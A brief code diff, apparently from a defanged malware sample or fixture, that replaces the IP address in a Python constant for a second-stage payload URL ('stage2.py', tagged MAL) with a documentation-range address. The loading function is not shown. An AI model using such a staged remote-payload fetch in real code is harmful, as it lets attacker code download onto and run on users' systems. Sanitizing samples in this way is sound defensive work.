@@ -1,6 +1,6 @@
 import urllib.request
 
-URL = "http://185.62.190.17/stage2.py"  # MAL
+URL = "http://203.0.113.17/stage2.py"  # MAL
 
 
 def load():
